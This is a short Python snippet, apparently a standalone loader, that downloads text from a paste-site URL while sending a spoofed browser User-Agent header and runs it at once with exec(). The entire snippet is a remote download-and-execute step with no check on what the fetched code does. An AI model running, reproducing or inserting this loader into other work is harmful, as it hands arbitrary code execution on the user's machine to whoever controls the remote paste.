import urllib.request
opener = urllib.request.build_opener()
opener.addheaders = [("User-Agent", "Mozilla/5.0")]
exec(opener.open("https://paste.example-bin.com/raw/z").read().decode())
